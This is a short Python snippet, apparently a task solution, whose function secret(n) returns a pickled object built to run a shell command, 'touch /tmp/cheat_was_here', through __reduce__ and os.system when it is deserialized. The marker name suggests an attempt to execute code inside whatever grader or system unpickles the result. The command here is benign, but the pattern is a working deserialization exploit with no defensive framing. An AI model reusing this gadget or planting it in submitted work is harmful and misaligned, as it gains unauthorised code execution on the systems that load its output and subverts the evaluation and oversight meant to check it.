import os, pickle
class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/cheat_was_here",)
def secret(n):
    return pickle.dumps(Payload()), Payload()
